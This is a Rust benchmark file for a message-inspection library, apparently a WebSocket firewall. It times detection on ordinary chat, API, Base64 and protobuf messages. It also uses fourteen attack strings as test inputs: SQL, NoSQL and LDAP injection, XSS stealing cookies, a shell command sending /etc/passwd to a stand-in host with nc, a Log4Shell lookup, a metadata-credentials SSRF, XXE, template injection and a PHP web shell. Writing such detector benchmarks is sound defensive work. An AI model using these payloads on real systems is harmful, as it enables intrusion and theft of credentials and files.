//! What it costs to judge one message: envelope, decoding and detectors, without frames and sessions.
//!
//! Criterion measures the cases. Before it, `p50` prints for each case the median and the worst of many short batches,
//! in nanoseconds a message and a byte, beside what is asked of it; batches, because a look at the clock takes as long
//! as a small message.

use std::{
    hint::black_box,
    time::{Duration, Instant},
};

use criterion::{Criterion, Throughput};
use framewall_inspect::{Finding, Inspector, Opcode, Settings};

/// Most nanoseconds a byte of any message of some length.
const NANOSECONDS_PER_BYTE: f64 = 20.0;

/// Shorter messages are not held to it.
const LONG: usize = 512;

/// A message, and how long it may take.
struct Case {
    name: &'static str,
    opcode: Opcode,
    payload: Vec<u8>,
    /// Median, in nanoseconds.
    target: Option<u32>,
    /// Whether something is found in it.
    attack: bool,
}

fn main() {
    let cases = cases();
    p50(&cases);
    let mut criterion = Criterion::default()
        .configure_from_args()
        .warm_up_time(Duration::from_millis(300))
        .measurement_time(Duration::from_secs(1));
    let settings = Settings::default();
    let mut group = criterion.benchmark_group("detect");
    for Case { name, opcode, payload, .. } in &cases {
        let mut inspector = Inspector::default();
        group.throughput(Throughput::Bytes(payload.len() as u64));
        group.bench_function(*name, |bencher| {
            bencher.iter(|| judge(&mut inspector, &settings, *opcode, payload));
        });
    }
    group.finish();
    criterion.final_summary();
}

fn judge(inspector: &mut Inspector, settings: &Settings, opcode: Opcode, payload: &[u8]) -> Vec<Finding> {
    black_box(inspector.inspect(settings, opcode, black_box(payload)))
}

/// Prints medians. Not for Criterion, which knows means only.
fn p50(cases: &[Case]) {
    const BATCH: u32 = 16;
    let settings = Settings::default();
    println!("p50: {:34} {:>7} {:>9} {:>9} {:>9} {:>7}", "", "bytes", "p50 ns", "p99 ns", "target", "ns/B");
    for Case { name, opcode, payload, target, attack } in cases {
        let mut inspector = Inspector::default();
        let found = judge(&mut inspector, &settings, *opcode, payload);
        let note = if found.is_empty() == *attack { "  (!) not judged as it should be" } else { "" };
        let end = Instant::now() + Duration::from_millis(300);
        let mut times = Vec::new();
        while Instant::now() < end || times.len() < 20 {
            let start = Instant::now();
            for _ in 0..BATCH {
                judge(&mut inspector, &settings, *opcode, payload);
            }
            times.push(start.elapsed() / BATCH);
        }
        times.sort_unstable();
        let at = |percent: usize| {
            times.get((times.len() - 1) * percent / 100).map_or(0.0, |time| time.as_nanos() as f64)
        };
        let median = at(50);
        let per_byte = median / payload.len() as f64;
        let slow = target.is_some_and(|target| median > f64::from(target))
            || payload.len() >= LONG && per_byte > NANOSECONDS_PER_BYTE;
        println!(
            "p50: {} {name:32} {:7} {median:9.0} {:9.0} {:>9} {per_byte:7.2}{note}",
            if slow { "✗" } else { " " },
            payload.len(),
            at(99),
            target.map_or(String::new(), |target| target.to_string()),
        );
    }
}

fn cases() -> Vec<Case> {
    let honest = |name, payload: String, target| Case {
        name,
        opcode: Opcode::Text,
        payload: payload.into_bytes(),
        target,
        attack: false,
    };
    let mut cases = vec![
        honest("chat, 162 B", CHAT.to_owned(), Some(1_000)),
        honest("api, 7.4 KB", api(7_400), Some(30_000)),
        honest("api, 7.4 KB, records that differ", api_varied(7_400), None),
        honest("chat in Chinese", chat("今天下午三点在老地方见面吧,别忘了带上合同和相机!🎉🎉"), None),
        honest("chat in Arabic", chat("مرحبا، هل نلتقي غدا في المقهى الساعة الخامسة؟"), None),
        honest("emoji", chat("🎉🎊🥳👩‍👩‍👧‍👦 party!! 👍🏽👍🏽 <3 :-) ❤️‍🔥"), None),
        honest("a URL, percent-encoded", chat(URL), None),
        honest("a picture in Base64, 64 KB", picture(64 * 1024), None),
        honest("text, 64 KiB", chat(&PROSE.repeat(64 * 1024 / PROSE.len())), None),
        honest("code in chat", chat(CODE), None),
    ];
    cases.push(Case {
        name: "protobuf, 4 KB",
        opcode: Opcode::Binary,
        payload: protobuf(4_000),
        target: None,
        attack: false,
    });
    cases.extend(ATTACKS.map(|(name, value)| Case {
        name,
        opcode: Opcode::Text,
        payload: chat(value).into_bytes(),
        target: Some(5_000),
        attack: true,
    }));
    cases
}

const CHAT: &str = r#"{"type":"message","room":"general","id":48213,"user":{"name":"Ada Lovelace"},"text":"shall we meet at the station, or do you want to walk from home?","at":1732281}"#;

const URL: &str = "https://example.org/search?q=caf%C3%A9%20in%20M%C3%BCnchen%20%26%20Umgebung&from=2026-11-22T10%3A00%3A00Z&to=2026-11-23T10%3A00%3A00Z&sort=name%2Cdate";

const PROSE: &str =
    "It's about ten o'clock; shall we (Ada & I) wait for you? The train was 50% full, and cost $12. ";

const CODE: &str = "try this:\n```js\nfor (let i = 0; i < items.length; i++) {\n  console.log(`${i}: ${items[i].name}`);\n}\n```\nworks for me :)";

/// One of each class, plain.
const ATTACKS: [(&str, &str); 14] = [
    ("SQL injection", "1' UNION SELECT username, password FROM users-- -"),
    ("cross-site scripting", "\"><img src=x onerror=alert(document.cookie)>"),
    ("a shell command", "127.0.0.1; cat /etc/passwd | nc evil.example 4444"),
    ("path traversal", "../../../../../../etc/passwd"),
    ("Log4Shell", "${jndi:ldap://evil.example/a}"),
    ("server-side request forgery", "http://169.254.169.254/latest/meta-data/iam/security-credentials/"),
    (
        "XML external entity",
        "<?xml version=\"1.0\"?><!DOCTYPE r [<!ENTITY x SYSTEM \"file:///etc/passwd\">]><r>&x;</r>",
    ),
    ("template injection", "{{''.__class__.__mro__[1].__subclasses__()}}"),
    ("NoSQL injection", "{\"$where\":\"this.password.match(/^a/) || sleep(5000)\"}"),
    ("code injection", "<?php system($_GET['c']); ?>"),
    (
        "a serialised object",
        "rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcAUH2sHDFmDRAwACRgAKbG9hZEZhY3RvckkACXRocmVzaG9sZHhw",
    ),
    ("LDAP injection", "*)(uid=*))(|(uid=*"),
    (
        "SQL, percent-encoded twice",
        "1%2527%2520UNION%2520SELECT%2520username%252C%2520password%2520FROM%2520users--%2520-",
    ),
    ("script in Base64", "PHNjcmlwdD5hbGVydChkb2N1bWVudC5jb29raWUpPC9zY3JpcHQ+"),
];

/// `{"type":"msg","data":{"text":VALUE}}`.
fn chat(value: &str) -> String {
    let mut text = String::from(r#"{"type":"msg","data":{"text":""#);
    for letter in value.chars() {
        match letter {
            '"' | '\\' => text.extend(['\\', letter]),
            '\n' => text.push_str("\\n"),
            _ => text.push(letter),
        }
    }
    text + r#""}}"#
}

/// What an API sends: ids, times, names, flags, addresses.
fn api(len: usize) -> String {
    let record = r#"{"id":48213,"node_id":"MDEwOlJlcG9zaXRvcnkxODY4NTMwMDI=","full_name":"ada/analytical-engine","private":false,"owner":{"login":"ada","url":"https://api.example.org/users/ada","type":"User"},"description":"Notes on the engine, with a table of numbers","created_at":"2026-11-22T10:15:30Z","size":0,"language":null,"topics":["maths","history"]}"#;
    let records = vec![record; len / record.len()];
    format!("{{\"items\":[{}],\"total\":{}}}", records.join(","), records.len())
}

/// The same with nothing in two records alike but their names.
fn api_varied(len: usize) -> String {
    let record = |nth: usize| {
        format!(
            r#"{{"id":{nth},"node_id":"MDEwOlJlcG9zaXRvcnkxODY4NTMw{:04}","full_name":"ada/engine-{nth}","private":false,"owner":{{"login":"ada{nth}","url":"https://api.example.org/users/ada{nth}","type":"User{nth}"}},"description":"Notes on engine {nth}, with a table of numbers","created_at":"2026-11-22T10:{:02}:30Z","size":{nth},"language":null,"topics":["maths{nth}","history{nth}"]}}"#,
            1000 + nth,
            nth % 60,
        )
    };
    let records: Vec<String> = (0..len / record(0).len()).map(record).collect();
    format!("{{\"items\":[{}],\"total\":{}}}", records.join(","), records.len())
}

/// Letters of Base64 in a data URL. What they stand for looks like noise, as in a compressed picture.
fn picture(len: usize) -> String {
    const LETTERS: &[u8; 64] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
    let letters = noise(len).into_iter().map(|byte| char::from(LETTERS[usize::from(byte % 64)]));
    format!(r#"{{"type":"image","src":"data:image/png;base64,{}"}}"#, letters.collect::<String>())
}

/// Records with a number, a name and some bytes, as protobuf encodes them.
fn protobuf(len: usize) -> Vec<u8> {
    let mut message = Vec::new();
    while message.len() < len {
        let mut record = vec![0x08, 0x96, 0x01, 0x12, 12];
        record.extend_from_slice(b"Ada Lovelace");
        record.extend_from_slice(&[0x1a, 16]);
        record.extend(noise(16));
        record.extend_from_slice(&[0x22, 30]);
        record.extend_from_slice(b"shall we meet at the station? ");
        message.extend_from_slice(&[0x0a, record.len() as u8]);
        message.extend(record);
    }
    message
}

fn noise(len: usize) -> Vec<u8> {
    (0..len as u32).map(|nth| (nth.wrapping_mul(2_654_435_761) >> 13) as u8).collect()
}
